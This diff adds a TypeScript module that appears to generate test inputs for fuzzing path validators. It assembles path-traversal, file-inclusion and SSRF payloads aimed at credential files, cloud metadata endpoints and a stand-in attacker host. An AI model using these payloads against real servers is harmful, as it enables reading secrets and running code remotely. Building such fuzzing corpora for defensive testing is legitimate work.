@@ -1,0 +1,351 @@
+import { Choices, type GeneratedText, linesOf } from "./random.ts";
+
+/** Ways to write `../`, the last ones as filters that remove `../` once leave it. */
+const STEPS = linesOf(String.raw`
+../
+..\
+..%2f
+..%5c
+%2e%2e/
+%2e%2e%2f
+%2e%2e\
+%2e%2e%5c
+.%2e/
+%2e./
+..%252f
+..%255c
+%252e%252e%252f
+%252e%252e/
+..%25252f
+..%c0%af
+..%c1%9c
+%c0%ae%c0%ae/
+%c0%ae%c0%ae%c0%af
+%c0%2e%c0%2e%c0%2f
+..%e0%80%af
+%e0%80%ae%e0%80%ae%e0%80%af
+..%u2215
+..%u2216
+%uff0e%uff0e%u2215
+%uff0e%uff0e%u2216
+%u002e%u002e%u002f
+..;/
+..;\
+....//
+....\/
+..../
+..././
+...\.\
+.../
+..//
+..///
+..\\
+.\.\
+./../
+.//..//
+../.
+..%00/
+..0x2f
+0x2e0x2e/
+0x2e0x2e0x2f
+..%01/
+..%0d/
+..%09/
+..\/
+..%5c/
+..%c0%9v
+..%c1%8s
+..%c1%pc
+%%32%65%%32%65/
+..%%32%66
+..%%35%63
+..&#47;
+..&#x2f;
+%252e%252e%255c
+%ae%ae/
+..%f0%80%80%af
+..%f8%80%80%80%af
+..%bg%qf
+`);
+
+const TARGETS = linesOf(`
+etc/passwd
+etc/shadow
+etc/hosts
+etc/group
+etc/issue
+etc/motd
+etc/fstab
+etc/apache2/apache2.conf
+etc/httpd/conf/httpd.conf
+etc/nginx/nginx.conf
+etc/mysql/my.cnf
+etc/php.ini
+etc/ssh/sshd_config
+etc/crontab
+proc/self/environ
+proc/self/cmdline
+proc/self/fd/10
+proc/version
+proc/cpuinfo
+var/log/apache2/access.log
+var/log/auth.log
+var/log/messages
+var/www/html/config.php
+var/lib/mlocate/mlocate.db
+root/.ssh/id_rsa
+root/.bash_history
+home/user/.ssh/authorized_keys
+usr/local/etc/php.ini
+boot.ini
+windows/win.ini
+windows/system.ini
+windows/system32/drivers/etc/hosts
+windows/system32/config/sam
+windows/repair/sam
+winnt/win.ini
+winnt/system32/cmd.exe
+inetpub/wwwroot/web.config
+inetpub/logs/logfiles
+xampp/apache/logs/access.log
+WEB-INF/web.xml
+META-INF/context.xml
+config/database.yml
+app/config/parameters.yml
+.env
+.git/config
+.htaccess
+.htpasswd
+wp-config.php
+config.php
+index.php
+`);
+
+const BEFORE = [
+  "",
+  "",
+  "",
+  "/",
+  "file=",
+  "images/",
+  "/var/www/images/",
+  "./",
+  "a/b/",
+  "C:/",
+  "/static",
+  "templates/",
+];
+const AFTER = [
+  "",
+  "",
+  "",
+  "",
+  "%00",
+  "%00.jpg",
+  "\0.png",
+  "?",
+  "#",
+  ".html",
+  "%20",
+  "%23vt/test",
+  "%2500.gif",
+  "/.",
+  "::$DATA",
+];
+
+const WHOLE = linesOf(String.raw`
+/etc/passwd
+/etc/shadow
+/etc/passwd%00
+/etc/./passwd
+/etc//passwd
+/./etc/./passwd
+//etc/passwd
+///etc///passwd
+\etc\passwd
+/%2e/etc/passwd
+etc/passwd
+/etc/hosts
+/etc/group
+/etc/issue
+/etc/security/passwd
+/etc/master.passwd
+/etc/sudoers
+/etc/crontab
+/etc/fstab
+/etc/mysql/my.cnf
+/etc/my.cnf
+/etc/httpd/logs/access_log
+/etc/php5/apache2/php.ini
+/etc/redhat-release
+/etc/lsb-release
+/proc/self/environ
+/proc/self/status
+/proc/self/fd/0
+/proc/self/maps
+/proc/1/cmdline
+/proc/net/tcp
+/proc/net/arp
+/proc/mounts
+/proc/sched_debug
+/var/log/apache/access.log
+/var/log/apache2/error.log
+/var/log/nginx/access.log
+/var/log/mysql.log
+/var/log/vsftpd.log
+/var/log/sshd.log
+/var/mail/root
+/var/spool/cron/crontabs/root
+/var/lib/mysql/mysql/user.frm
+/var/run/secrets/kubernetes.io/serviceaccount/token
+/var/www/html/.htaccess
+/usr/local/apache2/conf/httpd.conf
+/usr/local/apache/logs/error_log
+/usr/local/nginx/conf/nginx.conf
+/usr/pkg/etc/httpd/httpd.conf
+/opt/lampp/etc/httpd.conf
+/opt/tomcat/conf/tomcat-users.xml
+/root/.bash_history
+/root/.ssh/id_rsa
+/root/.aws/credentials
+/home/ubuntu/.ssh/id_rsa
+/home/app/.bash_history
+/dev/fd/3
+/sys/class/net/eth0/address
+/.dockerenv
+~/.ssh/id_rsa
+~/.bash_history
+~root/.ssh/id_rsa
+/Library/WebServer/Documents/.htaccess
+/private/etc/passwd
+c:\boot.ini
+c:/boot.ini
+C:\Windows\win.ini
+C:/Windows/System32/drivers/etc/hosts
+c:\windows\system32\config\SAM
+c:\windows\repair\sam
+c:\inetpub\wwwroot\web.config
+c:\inetpub\logs\LogFiles\W3SVC1\ex.log
+c:\xampp\apache\conf\httpd.conf
+c:\xampp\phpMyAdmin\config.inc.php
+C:\Program Files\Apache Group\Apache\conf\httpd.conf
+C:\WINDOWS\system32\eula.txt
+c:\winnt\php.ini
+c:/windows/php.ini
+c:\unattend.txt
+\\203.0.113.7\c$\boot.ini
+\\localhost\c$\windows\win.ini
+file:///etc/passwd
+file://localhost/etc/passwd
+file:/etc/passwd
+file:///c:/windows/win.ini
+file:///c|/boot.ini
+file:///proc/self/environ
+php://filter/convert.base64-encode/resource=index.php
+php://filter/read=string.rot13/resource=../config.php
+pHp://FilTer/convert.base64-encode/resource=index.php
+php://input
+php://stdin
+php://fd/3
+data://text/plain;base64,PD9waHAgc3lzdGVtKCRfR0VUWydjJ10pOz8+
+data:text/plain,<?php system('id');?>
+expect://id
+zip://x.zip%23a.php
+phar://x.phar/a.php
+compress.zlib://x.gz
+glob:///var/www/*
+netdoc:///etc/passwd
+jar:http://evil.example/x.jar!/a
+http://203.0.113.7/shell.txt
+http://203.0.113.7/shell.txt?
+https://203.0.113.7:8080/x.php%00
+ftp://203.0.113.7/x
+//203.0.113.7/x.php
+http://0x7f000001/
+http://2130706433/
+http://127.1/
+http://0/
+http://0177.0.0.1/
+http://[::1]/
+http://[::ffff:127.0.0.1]/
+http://[0:0:0:0:0:ffff:7f00:1]:80/
+http://localhost/admin
+http://localhost:22
+http://127.0.0.1:6379/
+http://user@127.0.0.1/
+http://evil.example@127.0.0.1/
+http://127.0.0.1.nip.io/
+http://169.254.169.254/latest/meta-data/
+http://169.254.169.254/computeMetadata/v1/
+http://[fd00:ec2::254]/latest/meta-data/
+http://[::ffff:169.254.169.254]/
+http://[::ffff:a9fe:a9fe]/
+http://2852039166/
+http://0xa9fea9fe/
+http://0xA9.0xFE.0xA9.0xFE/
+http://0251.0376.0251.0376/
+http://025177524776/
+http://169.254.43518/
+http://169.16689662/
+http://169.254.169.254.nip.io/
+http://metadata.google.internal/computeMetadata/v1/
+http://metadata/computeMetadata/v1/
+http://100.100.100.200/latest/meta-data/
+http://192.0.0.192/latest/
+http://169.254.170.2/v2/credentials
+http://169.254.169.254/metadata/instance?api-version=2021-02-01
+http://instance-data/latest/meta-data/
+gopher://127.0.0.1:6379/_FLUSHALL
+gopher://127.0.0.1:25/_HELO
+dict://127.0.0.1:11211/stats
+ldap://127.0.0.1:389/x
+tftp://203.0.113.7:69/x
+sftp://203.0.113.7:22/
+netdoc:///etc/hosts
+..
+/..
+../
+../..
+../../
+../../../
+..\..\..\
+/../../
+/..;/
+..;/..;/
+/.././../
+./././././../
+.../.../.../
+%2e%2e/%2e%2e/
+..%2f..%2f
+..%5c..%5c
+..%c0%af..%c0%af
+../../../../../../../../../../
+/%5c../%5c../%5c../etc/passwd
+/cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh
+/icons/.%%32%65/.%%32%65/etc/passwd
+/public/plugins/alertlist/../../../../../etc/passwd
+..%5c..%5c..%5c..%5cwindows%5cwin.ini
+/%c0%ae%c0%ae/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd
+/scripts/..%c1%1c../winnt/system32/cmd.exe?/c+dir
+/scripts/..%255c..%255c/winnt/system32/cmd.exe
+/msadc/..%c0%af../..%c0%af../winnt/system32/cmd.exe?/c+dir
+`);
+
+/** Traversals and inclusions: every whole value, and `count` of steps towards a target. */
+export function generatePaths(count: number, seed = 4): readonly GeneratedText[] {
+  const choices = new Choices(seed);
+  const texts: GeneratedText[] = WHOLE.map((text) => ({ core: text, text }));
+  for (let made = 0; made < count; made += 1) {
+    const step = STEPS[made % STEPS.length]!;
+    const depth = 2 + choices.integer(8);
+    // The last separator is the step's own, so the target's are written the same way.
+    const separator = /\.([^.]*)$/.exec(step)?.[1] ?? "/";
+    const target = choices.one(TARGETS);
+    const written = choices.integer(2) === 0 || separator === "" ? target : target.replaceAll("/", separator);
+    texts.push({
+      core: step,
+      text: `${choices.one(BEFORE)}${step.repeat(depth)}${written}${choices.one(AFTER)}`,
+    });
+  }
+  return texts;
+}
